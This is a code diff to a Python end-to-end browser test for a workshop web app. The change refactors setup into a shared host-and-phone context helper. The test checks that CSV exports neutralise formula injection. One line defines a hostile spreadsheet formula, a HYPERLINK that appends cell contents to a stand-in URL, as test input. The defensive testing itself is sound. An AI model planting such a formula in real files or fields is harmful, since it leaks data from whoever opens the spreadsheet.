@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.e2e.conftest import shot
+from tests.e2e.conftest import host_and_phone, shot
 from tests.e2e.test_selfcheck_browser import idle
 
 pytestmark = pytest.mark.e2e
@@ -18,12 +18,7 @@ HOSTILE = '=HYPERLINK("http://x/?"&A1,"open")'
 
 
 def test_hostile_name_table_has_no_toolbar_download_and_the_csv_is_guarded(server, browser):
-    host_ctx = browser.new_context(locale="zh-CN", viewport={"width": 1280, "height": 900}, accept_downloads=True)
-    phone_ctx = browser.new_context(locale="zh-CN", viewport={"width": 390, "height": 844}, is_mobile=True)
-    host, phone = host_ctx.new_page(), phone_ctx.new_page()
-    for pg in (host, phone):
-        pg.set_default_timeout(30_000)
-    try:
+    with host_and_phone(browser, accept_downloads=True) as (host, phone):
         host.goto(f"{server}/workshop_host")
         host.get_by_label("研讨会名称").fill("公式注入测试")
         host.locator('[data-testid="stSelectbox"]').filter(has_text="作答方式").click()
@@ -70,6 +65,3 @@ def test_hostile_name_table_has_no_toolbar_download_and_the_csv_is_guarded(serve
         rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
         assert [r[0] for r in rows[1:]] == ["'" + HOSTILE] * 4, rows
         shot(host, "guard-02-host-closed-exports")
-    finally:
-        host_ctx.close()
-        phone_ctx.close()
